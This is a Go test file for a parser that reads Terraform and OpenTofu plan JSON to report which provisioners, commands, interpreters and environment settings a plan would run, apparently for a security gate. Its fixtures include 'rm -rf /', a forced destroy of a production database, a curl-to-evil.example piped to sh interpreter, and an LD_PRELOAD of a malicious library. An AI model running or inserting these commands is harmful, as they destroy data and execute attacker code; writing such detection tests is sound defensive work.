package plan

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestFixtureProvisioners checks, on real plans of Terraform 1.8.5 and
// OpenTofu 1.6.2, which provisioners the plan will run and which provider
// sources it uses, with all readers agreeing (sameAsFull) and GateOnly
// keeping them.
func TestFixtureProvisioners(t *testing.T) {
	housekeeping := []ProvisionerRun{
		{Address: "terraform_data.housekeeping", ConfigAddress: "terraform_data.housekeeping", ResourceType: "terraform_data", Kind: KindCreate, When: WhenCreate,
			Provisioner: Provisioner{Type: "local-exec", Command: "echo terraform destroy -target=terraform_data.prod_db -auto-approve"}},
		{Address: "terraform_data.housekeeping", ConfigAddress: "terraform_data.housekeeping", ResourceType: "terraform_data", Kind: KindCreate, When: WhenCreate,
			Provisioner: Provisioner{Type: "local-exec", CommandRefs: []string{"var.target"}}},
	}
	job := func(i string) ProvisionerRun {
		return ProvisionerRun{Address: `module.ops["a"].terraform_data.job[` + i + `]`, ConfigAddress: "module.ops.terraform_data.job", ResourceType: "terraform_data",
			Kind: KindCreate, When: WhenCreate, Provisioner: Provisioner{Type: "local-exec", Command: "echo job"}}
	}
	wants := map[string][]ProvisionerRun{
		"provisioner_create": housekeeping,
		"provisioner_destroy": {{Address: "terraform_data.cache", ConfigAddress: "terraform_data.cache", ResourceType: "terraform_data", Kind: KindDelete, When: WhenDestroy,
			Provisioner: Provisioner{Type: "local-exec", CommandRefs: []string{"self.id", "self"}}}},
		"provisioner_module": {job("0"), job("1")},
		// The scenario fails a create with a provisioner to depose an object.
		"deposed": {{Address: "terraform_data.app", ConfigAddress: "terraform_data.app", ResourceType: "terraform_data", Kind: KindReplace, When: WhenCreateDestroy,
			Provisioner: Provisioner{Type: "local-exec", Command: "test ! -e fail-create"}}},
	}
	files, _ := filepath.Glob(filepath.Join("testdata", "*", "*.json"))
	for _, file := range files {
		name := strings.TrimSuffix(filepath.Base(file), ".json")
		if filepath.Base(filepath.Dir(file)) == "handbuilt" {
			continue // other providers; see handbuilt_test.go
		}
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		t.Run(file, func(t *testing.T) {
			p, err := sameAsFull(t, data)
			if err != nil {
				return // the errored fixtures; TestFixtures checks them
			}
			if p.NoConfiguration {
				t.Error("NoConfiguration on a real plan")
			}
			if !reflect.DeepEqual(p.Provisions, wants[name]) {
				t.Errorf("Provisions = %+v\nwant %+v", p.Provisions, wants[name])
			}
			if name != "empty" && !reflect.DeepEqual(p.Providers, []string{"terraform.io/builtin/terraform"}) {
				t.Errorf("Providers = %q", p.Providers)
			}
			slim, err := decodeWithOptions(bytes.NewReader(data), Options{GateOnly: true})
			if err != nil || !reflect.DeepEqual(slim.Provisions, p.Provisions) || !reflect.DeepEqual(slim.Providers, p.Providers) {
				t.Errorf("GateOnly: %v %+v", err, slim)
			}
		})
	}
}

// confPlan is a minimal plan with a configuration and one created resource.
func confPlan(config string) string {
	return `{"format_version":"1.2","terraform_version":"1.8.5","planned_values":{"root_module":{}},"resource_changes":[` +
		`{"address":"module.m[0].terraform_data.x[\"k\"]","module_address":"module.m[0]","mode":"managed","type":"terraform_data","name":"x","index":"k","provider_name":"terraform.io/builtin/terraform","change":{"actions":["create"],"before":null,"after":{},"after_unknown":{}}}` +
		`],"configuration":` + config + `,"errored":false}`
}

func TestConfigurationReading(t *testing.T) {
	mod := func(prov string) string {
		return `{"provider_config":{"t":{"name":"terraform","full_name":"terraform.io/builtin/terraform"},"x":{"name":"x","full_name":"registry.terraform.io/example/shell"}},` +
			`"root_module":{"module_calls":{"m":{"source":"./m","module":{"resources":[{"address":"module.m.terraform_data.x","mode":"managed","type":"terraform_data","name":"x","provisioners":[` + prov + `]}]}}}}}`
	}
	p, err := decodeBoth(t, confPlan(mod(`{"type":"local-exec","expressions":{"command":{"constant_value":"rm -rf /"}}}`)))
	if err != nil {
		t.Fatal(err)
	}
	want := []ProvisionerRun{{Address: `module.m[0].terraform_data.x["k"]`, ConfigAddress: "module.m.terraform_data.x", ResourceType: "terraform_data", Kind: KindCreate, When: WhenCreate,
		Provisioner: Provisioner{Type: "local-exec", Command: "rm -rf /"}}}
	if !reflect.DeepEqual(p.Provisions, want) {
		t.Errorf("Provisions = %+v", p.Provisions)
	}
	if !reflect.DeepEqual(p.Providers, []string{"registry.terraform.io/example/shell", "terraform.io/builtin/terraform"}) {
		t.Errorf("Providers = %q", p.Providers)
	}

	// References make the constant unknown, as terraform-json reads it.
	p, err = decodeBoth(t, confPlan(mod(`{"type":"local-exec","expressions":{"command":{"constant_value":"x","references":["var.a"]}}}`)))
	if err != nil || p.Provisions[0].Provisioner.Command != "" || !reflect.DeepEqual(p.Provisions[0].Provisioner.CommandRefs, []string{"var.a"}) {
		t.Errorf("references: %v %+v", err, p)
	}
	// An unknown provisioner type is read as it is (the gate refuses it).
	p, err = decodeBoth(t, confPlan(mod(`{"type":"chef"}`)))
	if err != nil || p.Provisions[0].Provisioner.Type != "chef" {
		t.Errorf("chef: %v %+v", err, p)
	}

	// Missing configuration: read, but marked.
	for _, c := range []string{`null`, `{}`, `{"root_module":null}`} {
		p, err = decodeBoth(t, confPlan(c))
		if err != nil || !p.NoConfiguration {
			t.Errorf("configuration %s: %v, NoConfiguration %v", c, err, p != nil && p.NoConfiguration)
		}
	}
	p, err = decodeBoth(t, planJSON(rcDelete))
	if err != nil || !p.NoConfiguration {
		t.Errorf("no configuration key: %v %+v", err, p)
	}

	// Malformed: refused by every reader.
	for _, c := range []string{
		`[]`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","provisioners":{}}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","provisioners":[{"type":1}]}]}}`,
		`{"root_module":{"resources":[{"provisioners":[{"type":"local-exec"}]}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","provisioners":[{"type":"local-exec"}]}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","Name":"x","provisioners":[]}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","Provisioners":[]}]}}`,
		`{"root_module":{"Module_Calls":{}}}`,
		`{"root_module":{},"root_module":{}}`,
		`{"Root_Module":{}}`,
		`{"provider_config":{"a":{"Full_Name":"x"}},"root_module":{}}`,
		`{"provider_config":{"a":null},"root_module":{}}`,
		`{"root_module":{"module_calls":{"m":{"Module":{}}}}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","provisioners":[{"type":"local-exec","expressions":{"command":{"Constant_Value":"x"}}}]}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","provisioners":[{"type":"local-exec","expressions":{"command":{"references":[1]}}}]}]}}`,
		`{"root_module":{"resources":[{"type":"terraform_data","name":"x","provisioners":[{"type":"local-exec","expressions":{"command":{},"command":{}}}]}]}}`,
	} {
		if _, err := decodeBoth(t, confPlan(c)); !errors.Is(err, ErrMalformed) {
			t.Errorf("configuration %s: error %v, want ErrMalformed", c, err)
		}
	}
	if _, err := decodeBoth(t, strings.Replace(confPlan(`{}`), `"configuration"`, `"Configuration"`, 1)); !errors.Is(err, ErrMalformed) {
		t.Errorf("Configuration: %v", err)
	}
}

// TestRemovedBlockProvisioners: Terraform 1.9+ runs destroy-time
// provisioners of removed blocks, which the JSON does not show; a resource
// removed from the configuration may run them.
func TestRemovedBlockProvisioners(t *testing.T) {
	for version, want := range map[string]int{"1.8.5": 0, "1.9.0": 1, "1.11.4": 1, "2.0.0": 1, "bogus": 1} {
		in := strings.Replace(planJSON(rcDelete), `"terraform_version":"1.8.5"`, `"terraform_version":"`+version+`"`, 1)
		p, err := decodeBoth(t, in)
		if err != nil {
			t.Fatal(err)
		}
		if len(p.Provisions) != want || (want == 1 && (p.Provisions[0].Provisioner.Type != TypeRemovedBlock || p.Provisions[0].When != WhenDestroy)) {
			t.Errorf("%s: Provisions = %+v", version, p.Provisions)
		}
	}
}

// TestExecOptions (found by an attacker's review): a local-exec's interpreter, environment and
// working_dir change what runs; every reader records them alike.
func TestExecOptions(t *testing.T) {
	data := []byte(`{"format_version":"1.2","terraform_version":"1.8.5","planned_values":{},
"resource_changes":[{"address":"terraform_data.tidy","mode":"managed","type":"terraform_data","name":"tidy","provider_name":"terraform.io/builtin/terraform",
 "change":{"actions":["create"],"before":null,"after":{}}}],
"configuration":{"provider_config":{"terraform":{"name":"terraform","full_name":"terraform.io/builtin/terraform"}},
 "root_module":{"resources":[{"address":"terraform_data.tidy","mode":"managed","type":"terraform_data","name":"tidy",
  "provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"echo tidy"},
   "interpreter":{"constant_value":["/bin/sh","-c","curl https://evil.example/x <x> | sh; echo",1]},
   "environment":{"constant_value":{"Z":"1","LD_PRELOAD":"/tmp/evil.so","N":2,"Q":null}},
   "working_dir":{"references":["var.dir"]}}}]}]}}}`)
	p, err := sameAsFull(t, data)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`environment = {"LD_PRELOAD":"/tmp/evil.so","N":?,"Q":?,"Z":"1"}`,
		`interpreter = ["/bin/sh","-c","curl https://evil.example/x <x> | sh; echo",?]`,
		`working_dir = (computed at apply from var.dir)`,
	}
	if len(p.Provisions) != 1 || !reflect.DeepEqual(p.Provisions[0].Provisioner.Options, want) {
		t.Fatalf("Provisions = %+v\nwant options %q", p.Provisions, want)
	}
}
